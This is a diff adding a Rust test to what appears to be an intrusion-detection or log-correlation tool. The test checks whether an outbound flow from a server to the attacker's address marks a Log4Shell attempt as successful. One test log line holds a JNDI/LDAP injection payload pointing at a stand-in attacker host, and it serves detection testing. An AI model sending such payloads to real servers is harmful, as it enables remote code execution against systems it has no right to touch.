@@ -126,6 +126,29 @@ fn findings_carry_their_incident_and_its_outcome() {
 }
 
 #[test]
+fn a_connection_of_the_server_to_the_attacker_shows_success() {
+    let folder = tempfile::tempdir().expect("a folder");
+    let request = "GET /?x=${jndi:ldap://203.0.113.77:1389/a}";
+    let log = line(0, "198.51.100.7", request, 200, 900);
+    let log = write(folder.path(), "access.log", &log);
+    let flow = |to: &str| {
+        format!(
+            "{{\"timestamp\":\"2026-03-01T10:00:04.000000+0900\",\"event_type\":\"flow\",\"src_ip\":\"10.0.0.5\",\"src_port\":40000,\"dest_ip\":\"{to}\",\"dest_port\":1389,\"proto\":\"TCP\",\"flow\":{{\"pkts_toserver\":4}}}}\n"
+        )
+    };
+    for (to, outcome) in [("203.0.113.77", "success"), ("203.0.113.99", "unknown")] {
+        let eve = write(folder.path(), "eve.json", &flow(to));
+        for paths in [[&log, &eve], [&eve, &log]] {
+            let found = findings(&[], &paths.map(Clone::clone));
+            assert!(!found.is_empty());
+            for finding in found {
+                assert_eq!(finding["outcome"], outcome, "{to}: {finding}");
+            }
+        }
+    }
+}
+
+#[test]
 fn the_number_of_threads_changes_nothing() {
     let folder = tempfile::tempdir().expect("a folder");
     let mut text = String::new();
